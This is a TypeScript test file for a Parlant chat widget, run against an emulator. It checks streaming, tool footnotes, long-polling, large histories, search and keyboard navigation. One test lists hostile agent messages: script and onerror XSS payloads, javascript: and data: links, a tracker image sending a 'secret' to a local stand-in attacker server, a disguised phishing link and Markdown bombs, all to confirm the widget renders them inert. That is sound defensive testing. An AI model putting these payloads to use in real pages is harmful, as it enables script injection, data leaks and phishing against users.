/**
 * Scenarios only the emulator can stage: tool calls (the offline fake NLP service never calls
 * tools), histories seeded in bulk, and counting the server's in-flight long-polls.
 */
import { createServer } from 'node:http';
import { expect, it } from 'vitest';
import type { ParlantEmulator } from '../../src/testing';
import type { Harness, TestPage } from './harness';
import { agentBubbles, log, say, shot, wait } from './harness';

/** A server that only counts who contacts it: the attacker of the hostile-message scenario. */
async function attacker(): Promise<{ origin: string; hits: string[]; close(): void }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(204).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  return { origin: `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`, hits, close: () => server.close() };
}

/**
 * Registers the emulator-only scenarios; `h` is filled in for each test.
 * @example describe('against the emulator', () => emulatorScenarios(h));
 */
export function emulatorScenarios(h: Harness): void {
  const emu = (): ParlantEmulator => {
    if (!h.backend.emulator) throw new Error('an emulator scenario ran against a real server');
    return h.backend.emulator;
  };
  const inFlightPolls = () => emu().requests.filter((r) => r.method === 'GET' && r.path.endsWith('/events') && r.status === null).length;

  it('shows tool footnotes of a turn with tool calls (not verified against the real server)', async () => {
    const { page } = await h.open({ csp: 'strict' });
    await say(page, 'What is my balance?');
    await agentBubbles(page).first().waitFor();
    await page.getByText(/tools? used/).click();
    await expect.poll(() => page.getByText('Arguments').isVisible()).toBe(true);
    await shot(h, page, 'tool-footnotes');
    expect(await page.problems()).toEqual([]);
  });

  it('streams a reply word by word into one bubble, whole and once, over server-sent events', async () => {
    const { page, network } = await h.open({ transport: 'sse' });
    await say(page, 'Can you stream your answer?');
    const reply = agentBubbles(page).filter({ hasText: 'the way a streaming agent sends it.' });
    await reply.waitFor();
    expect(await agentBubbles(page).filter({ hasText: 'word by word' }).count()).toBe(1);
    expect(await reply.textContent()).toContain('Here is a reply that arrives word by word, the way a streaming agent sends it.');
    // The message was followed as it grew: its own event stream, not only the session's.
    expect(network.some((r) => /\/events\/[^/?]+\?.*sse=true/.test(r.url))).toBe(true);
    expect(await page.problems()).toEqual([]);
  });

  it('renders hostile agent messages inert: nothing runs, nothing is fetched from the attacker', async () => {
    const session = emu().createSession();
    const evil = await attacker();
    const { page } = await h.open({ session: session.id, csp: 'strict' });
    const hostile = [
      `<script>window.__pwned = 1</script><img src="${evil.origin}/x.png" onerror="window.__pwned = 2">`,
      '[click me](javascript:window.__pwned=3) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox)',
      `![tracker](${evil.origin}/leak?q=secret) <iframe src="${evil.origin}"></iframe>`,
      '<svg onload="window.__pwned = 4"></svg> <style>body { display: none }</style>',
      `${'> '.repeat(3000)}deep ${'['.repeat(5000)}`,
      `${`- *nested* [link](${evil.origin}/n)\n  `.repeat(2500)}`, // ~100 KB of nested Markdown
      `spoofed \u202Egnp.exe [https://bank.example](${evil.origin}/phish)`,
    ];
    try {
      for (const text of hostile) emu().agentSay(session.id, text);
      await expect.poll(() => agentBubbles(page).count()).toBe(hostile.length);
      // The link says where it really goes.
      expect(await page.getByRole('link', { name: 'https://bank.example' }).getAttribute('title')).toBe(new URL(evil.origin).host);
      expect(await page.evaluate(() => typeof (window as { __pwned?: number }).__pwned)).toBe('undefined');
      expect(await page.locator('.parlant-chatbox script, .parlant-chatbox iframe, .parlant-chatbox svg:not([aria-hidden]), .parlant-chatbox img').count()).toBe(0);
      await wait(500);
      expect(evil.hits).toEqual([]);
      expect(await page.problems()).toEqual([]);
    } finally {
      evil.close();
    }
  });

  it('keeps one long-poll for six tabs on the same session, and hands over when the polling tab closes', async () => {
    const session = emu().createSession();
    const tabs: TestPage[] = [];
    for (let i = 0; i < 6; i += 1) tabs.push((await h.open({ session: session.id })).page);
    await expect.poll(inFlightPolls, { timeout: 10_000 }).toBe(1);
    await say(tabs[5] as TestPage, 'from the sixth tab');
    for (const tab of tabs) await agentBubbles(tab).first().waitFor();
    expect(emu().events(session.id).filter((e) => e.source === 'customer')).toHaveLength(1);
    await tabs[0]?.close();
    await expect.poll(inFlightPolls, { timeout: 15_000 }).toBe(1);
    emu().agentSay(session.id, 'still here after the handover');
    for (const tab of tabs.slice(1)) await log(tab).getByText('still here after the handover').waitFor({ timeout: 15_000 });
  });

  it('keeps one long-poll for several widgets on one page showing the same session', async () => {
    const session = emu().createSession();
    const { page } = await h.open({ session: session.id, count: '3' });
    await expect.poll(inFlightPolls, { timeout: 10_000 }).toBe(1);
    emu().agentSay(session.id, 'seen by all three');
    await expect.poll(() => page.getByRole('log', { name: 'Conversation' }).getByText('seen by all three').count()).toBe(3);
  });

  it('stays usable with a 10,000-event history and a 1 MB agent message', async () => {
    const session = emu().createSession();
    for (let i = 1; i <= 5000; i += 1) {
      emu().appendEvent(session.id, { kind: 'message', source: i % 2 ? 'customer' : 'ai_agent', message: `history message ${i}` });
      emu().appendEvent(session.id, { kind: 'status', source: 'ai_agent', status: 'ready' });
    }
    const { page } = await h.open({ session: session.id });
    await log(page).getByText('history message 5000').waitFor({ timeout: 20_000 });
    // Only a window of the history is in the DOM.
    expect(await page.evaluate(() => document.getElementsByTagName('*').length)).toBeLessThan(2000);
    emu().agentSay(session.id, `${'A very long answer. '.repeat(52_429)}THE END`);
    await log(page).getByText(/THE END$/).waitFor({ timeout: 20_000 });
    await say(page, 'still here');
    await log(page).locator('li[data-role="customer"]').getByText('still here').waitFor();
    expect(await page.problems()).toEqual([]);
  });

  it('finds the first of 10,000 messages with the search and shows it in view, marked, the DOM still a window', async () => {
    const session = emu().createSession();
    emu().appendEvent(session.id, { kind: 'message', source: 'ai_agent', message: 'Your order **Z-9931** left the warehouse.' });
    for (let i = 2; i <= 10_000; i += 1) emu().appendEvent(session.id, { kind: 'message', source: i % 2 ? 'customer' : 'ai_agent', message: `history message ${i}` });
    const { page } = await h.open({ session: session.id });
    await log(page).getByText('history message 10000', { exact: true }).waitFor({ timeout: 30_000 });
    expect(await log(page).getByText(/Z-9931/).count()).toBe(0);
    await page.getByRole('button', { name: 'Search the conversation' }).click();
    await page.getByRole('searchbox', { name: 'Search the conversation' }).waitFor();
    await page.type('z-9931');
    await page.getByText('1 of 1', { exact: true }).waitFor({ timeout: 20_000 });
    // On screen: the mark inside the conversation's visible area, not merely in the DOM.
    const inView = () =>
      page.evaluate(() => {
        const mark = document.querySelector('[data-search-hit="current"] mark');
        const scroller = mark?.closest('.parlant-scroller');
        if (!mark || !scroller || mark.textContent !== 'Z-9931') return false;
        const box = mark.getBoundingClientRect();
        const view = scroller.getBoundingClientRect();
        return box.height > 0 && box.top >= view.top && box.bottom <= view.bottom;
      });
    await expect.poll(inView, { timeout: 10_000 }).toBe(true);
    expect(await page.evaluate(() => document.getElementsByTagName('*').length)).toBeLessThan(2000);
    expect(await page.problems()).toEqual([]);
  }, 90_000);

  it('reaches both ends of a 2,000-message history with the keyboard alone (Home, End), never holding more than 200 rows', async () => {
    const session = emu().createSession();
    for (let i = 1; i <= 2000; i += 1) emu().appendEvent(session.id, { kind: 'message', source: i % 2 ? 'customer' : 'ai_agent', message: `history message ${i}` });
    const { page } = await h.open({ session: session.id });
    await page.getByText('history message 2000', { exact: true }).waitFor({ timeout: 20_000 });
    const rows = () => log(page).locator('li.parlant-message .parlant-bubble').allTextContents();
    const numbers = async () => (await rows()).map((text) => Number(/history message (\d+)/.exec(text)?.[1]));
    // Tab from the composer backwards to the focusable list, as a keyboard user would.
    await page.getByRole('textbox', { name: 'Message' }).click();
    const onList = () => page.evaluate(() => document.activeElement?.classList.contains('parlant-scroller') ?? false);
    for (let i = 0; i < 5 && !(await onList()); i += 1) await page.press('Shift+Tab');
    expect(await onList()).toBe(true);
    let most = 0;
    // WebKit animates a Home or End scroll, so there a press may land mid-way and it takes more.
    const walk = async (key: string, reached: () => Promise<boolean>) => {
      for (let i = 0; i < 200 && !(await reached()); i += 1) {
        await page.press(key);
        await wait(50);
        const shown = await numbers();
        most = Math.max(most, shown.length);
        // Always one unbroken run of the conversation, in order: what a screen reader reads.
        expect(shown).toEqual(shown.map((_, k) => (shown[0] as number) + k));
      }
    };
    await walk('Home', async () => (await numbers())[0] === 1);
    await expect.poll(() => page.getByText('history message 1', { exact: true }).isVisible()).toBe(true);
    await walk('End', async () => (await numbers()).at(-1) === 2000 && (await page.getByRole('button', { name: /Latest messages/ }).count()) === 0);
    await expect.poll(() => page.getByText('history message 2000', { exact: true }).isVisible()).toBe(true);
    expect(most).toBeGreaterThan(0);
    expect(most).toBeLessThanOrEqual(200);
    expect(await page.problems()).toEqual([]);
  }, 90_000);
}
